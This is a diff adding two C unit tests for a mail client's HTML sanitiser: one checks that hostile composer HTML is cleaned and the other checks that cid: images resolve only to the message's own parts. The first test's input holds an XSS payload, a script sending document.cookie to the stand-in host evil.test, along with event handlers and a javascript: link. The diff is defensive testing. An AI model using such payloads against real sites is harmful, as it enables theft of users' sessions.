@@ -315,16 +315,119 @@ static void test_mutations(void **state)
 	}
 }
 
+/* The rich-text editor's HTML as a hostile page could post it: what is
+ * sent (and so what the recipient reads) is the sanitiser's output, and
+ * the text part is made from it. */
+static void test_compose_html(void **state)
+{
+	static const char hostile[] =
+	    "<p onclick=\"steal()\">Hello <b>world</b></p>"
+	    "<script>fetch('https://evil.test/?c='+document.cookie)</script>"
+	    "<img src=\"https://evil.test/track.png\" onerror=\"x()\">"
+	    "<a href=\"javascript:alert(1)\">click</a> "
+	    "<a href=\"https://qmail.test/doc\">doc</a>"
+	    "<ul><li>one</li></ul><blockquote>quoted</blockquote>";
+	struct qm_buf clean, text;
+	struct qm_error e;
+	char *lc;
+
+	(void)state;
+	qm_buf_init(&clean, 1 << 16);
+	qm_buf_init(&text, 1 << 16);
+	assert_int_equal(
+	    qm_web_compose_html(hostile, strlen(hostile), &clean, &text, &e),
+	    QM_OK);
+	lc = strdup((char *)clean.data);
+	assert_non_null(lc);
+	lower(lc);
+	assert_null(strstr(lc, "<script"));
+	assert_null(strstr(lc, "cookie"));
+	assert_null(strstr(lc, "onclick"));
+	assert_null(strstr(lc, "onerror"));
+	assert_null(strstr(lc, "evil.test"));
+	assert_null(strstr(lc, "javascript:"));
+	/* what the editor makes survives */
+	assert_non_null(strstr(lc, "<b>world</b>"));
+	assert_non_null(strstr(lc, "<li>one</li>"));
+	assert_non_null(strstr(lc, "<blockquote>"));
+	assert_non_null(strstr(lc, "href=\"https://qmail.test/doc\""));
+	free(lc);
+	assert_non_null(strstr((char *)text.data, "Hello world"));
+	assert_non_null(strstr((char *)text.data, "* one"));
+	assert_non_null(strstr((char *)text.data, "> quoted"));
+	assert_non_null(
+	    strstr((char *)text.data, "doc <https://qmail.test/doc>"));
+	assert_null(strstr((char *)text.data, "javascript"));
+	assert_null(strstr((char *)text.data, "cookie"));
+	qm_buf_free(&clean);
+	qm_buf_free(&text);
+}
+
+/* cid: images come from the message's own image parts, in place (as data:
+ * URLs); a cid naming a part that is no image, or no part of this message
+ * (another message's, or none), is dropped like a remote image. */
+static void test_cid_own_parts(void **state)
+{
+	static const unsigned char png[] = {0x89, 'P', 'N', 'G', '\r', '\n'};
+	static const char html[] =
+	    "<p>logo <img src=\"cid:logo@x.test\" alt=\"logo\"></p>"
+	    "<img src=\"CID:pic%40x.test\">"
+	    "<img src=\"cid:script@x.test\" alt=\"js\">"
+	    "<img src=\"cid:other-message@x.test\" alt=\"other\">"
+	    "<a href=\"cid:logo@x.test\">link</a>";
+	const struct qm_web_inline parts[] = {
+	    {"logo@x.test", "image/png", png, sizeof(png)},
+	    {"pic@x.test", "image/gif", png, sizeof(png)},
+	    {"script@x.test", "text/html", (const unsigned char *)"<script>",
+	     8},
+	};
+	struct qm_buf out;
+	struct qm_error e;
+	const char *o;
+
+	(void)state;
+	qm_buf_init(&out, 1 << 16);
+	assert_int_equal(qm_web_html_sanitize_parts(html, strlen(html), 0,
+	                                            parts, 3, &out, &e),
+	                 QM_OK);
+	o = (const char *)out.data;
+	/* the logo in place, from the part's own bytes */
+	assert_non_null(
+	    strstr(o, "<img src=\"data:image/png;base64,iVBORw0K\""));
+	assert_non_null(strstr(o, "src=\"data:image/gif;base64,iVBORw0K\""));
+	/* no cid: is left, and nothing is loaded from anywhere */
+	assert_null(strstr(o, "cid:"));
+	assert_null(strstr(o, "CID:"));
+	assert_null(strstr(o, "text/html"));
+	/* the refused ones leave their alt text, as a remote image does */
+	assert_non_null(strstr(o, "[js]"));
+	assert_non_null(strstr(o, "[other]"));
+	/* a link to a part is no image: dropped (no href) */
+	assert_non_null(strstr(o, "<a target="));
+	qm_buf_free(&out);
+
+	/* without the message's parts (another message's HTML shown), the
+	 * same cid: is refused */
+	qm_buf_init(&out, 1 << 16);
+	assert_int_equal(qm_web_html_sanitize(html, strlen(html), 1, &out, &e),
+	                 QM_OK);
+	assert_null(strstr((char *)out.data, "data:image"));
+	assert_null(strstr((char *)out.data, "cid:"));
+	qm_buf_free(&out);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_keeps_harmless_markup),
-		cmocka_unit_test(test_closes_and_escapes),
-		cmocka_unit_test(test_images),
-		cmocka_unit_test(test_output_limit),
-		cmocka_unit_test(test_xss_corpus),
-		cmocka_unit_test(test_truncations),
-		cmocka_unit_test(test_mutations),
+	    cmocka_unit_test(test_keeps_harmless_markup),
+	    cmocka_unit_test(test_closes_and_escapes),
+	    cmocka_unit_test(test_images),
+	    cmocka_unit_test(test_output_limit),
+	    cmocka_unit_test(test_xss_corpus),
+	    cmocka_unit_test(test_truncations),
+	    cmocka_unit_test(test_mutations),
+	    cmocka_unit_test(test_compose_html),
+	    cmocka_unit_test(test_cid_own_parts),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
